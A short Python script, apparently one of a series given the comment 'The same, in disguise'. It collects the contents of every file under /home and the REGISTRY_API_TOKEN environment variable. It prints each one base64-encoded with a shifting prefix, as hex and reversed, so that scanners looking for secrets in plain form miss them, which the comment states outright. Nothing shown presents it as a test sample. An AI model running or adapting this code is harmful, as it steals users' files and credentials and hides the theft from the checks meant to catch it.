# The same, in disguise: what looks for a secret as it is written does not find it so.
import base64
import os
import pathlib

found = [path.read_bytes() for path in sorted(pathlib.Path("/home").rglob("*")) if path.is_file()]
found.append(os.environ.get("REGISTRY_API_TOKEN", "no token").encode())
for shift, secret in enumerate(found):
    print(base64.b64encode(b"#" * (shift % 3) + secret).decode())
    print(secret.hex())
    print(secret[::-1].decode("utf-8", "replace"))
